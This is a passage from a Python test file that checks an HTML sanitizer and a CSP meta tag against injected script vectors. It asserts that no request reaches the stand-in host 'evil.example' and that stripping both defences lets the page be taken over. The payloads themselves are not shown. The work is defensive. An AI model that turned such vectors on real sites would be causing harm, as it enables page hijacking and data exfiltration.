    uncleaned = tmp_path / "uncleaned.html"  # the second wall holds alone
    uncleaned.write_text(text.replace("</body>", attack + "</body>"), encoding="utf-8")
    shown, log = browse(uncleaned, tmp_path)
    assert title in shown and "evil.example" not in log

    policy = text.index("<meta http-equiv")
    uncleaned.write_text(  # and without both it is taken, so that this test can fail
        text[:policy] + text[text.index("<meta name", policy) :].replace("</body>", attack),
        encoding="utf-8",
    )
    shown, log = browse(uncleaned, tmp_path)
    assert "<title>taken</title>" in shown and "evil.example" in log


def test_these_vectors_would_work_without_cleaning():
    """The page's parser sees what the tests look for, so that they can fail."""
    for vector in (VECTORS[0], VECTORS[4], VECTORS[12], VECTORS[17], VECTORS[20]):
        page = Page(vector)
        assert not set(page.tags) <= sanitize._TAGS or page.attributes
    with pytest.raises(AssertionError):
        assert_harmless(f"<html><head><meta><meta><meta><meta><style></style></head>{VECTORS[4]}")
